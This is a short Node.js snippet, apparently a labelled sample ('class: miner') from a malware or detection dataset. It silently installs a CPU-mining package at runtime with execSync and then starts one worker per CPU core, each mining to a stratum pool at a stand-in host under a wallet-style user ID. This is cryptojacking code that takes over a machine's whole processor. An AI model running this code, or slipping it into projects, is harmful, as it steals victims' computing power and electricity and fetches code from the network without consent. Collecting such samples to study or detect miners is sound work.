// class: miner; style: node starts workers
const { Worker } = require('worker_threads');
const os = require('os');
const { execSync } = require('child_process');
execSync('npm i --no-save --silent node-cpu-miner');
for (let i = 0; i < os.cpus().length; i++)
  new Worker(`require('node-cpu-miner').start({ pool: 'stratum+tcp://randomx.mine.example:3333', user: '44Adr.worker', algo: 'rx/0' })`, { eval: true });
